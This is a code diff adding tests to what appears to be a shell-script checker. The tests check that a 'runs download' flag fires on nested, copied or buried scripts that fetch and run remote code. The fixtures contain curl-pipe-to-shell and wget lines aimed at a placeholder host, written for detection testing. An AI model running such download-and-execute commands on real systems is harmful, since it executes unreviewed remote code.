@@ -315,3 +315,15 @@ def test_script_that_a_script_writes_is_run__whatever_starts_it(start: str) -> N
     fetching = lay_down.format("https://files.example/a", 'curl -s "$u" | sh')
     assert checks.RUNS_DOWNLOAD in checks_of(in_shell(fetching + start))
     assert checks.RUNS_DOWNLOAD not in checks_of(in_shell(lay_down.format("1", 'echo "$u"') + start))
+
+
+def test_script_that_a_written_script_writes_is_run__once_however_often_it_is_copied() -> None:
+    inner = "cat > /opt/b.sh <<'B'\n#!/bin/sh\nu=https://files.example/a\ncurl -s \"$u\" | sh\nB\ncat /opt/b.sh > /opt/c.sh\n"
+    outer = f"cat > /opt/a.sh <<'A'\n#!/bin/sh\n# https://files.example\n{inner}cat /opt/a.sh > /opt/d.sh\nA\n"
+    assert checks.RUNS_DOWNLOAD in checks_of(in_shell(outer))
+
+
+def test_script_counts__behind_many_others_that_are_written() -> None:
+    others = "".join(f"cat > /opt/{n}.sh <<'R'\n#!/bin/sh\nwget https://files.example/{n}\nR\n" for n in range(30))
+    last = "cat > /opt/last.sh <<'R'\n#!/bin/sh\nu=https://files.example/a\ncurl -s \"$u\" | sh\nR\n"
+    assert checks.RUNS_DOWNLOAD in checks_of(in_shell(others + last))
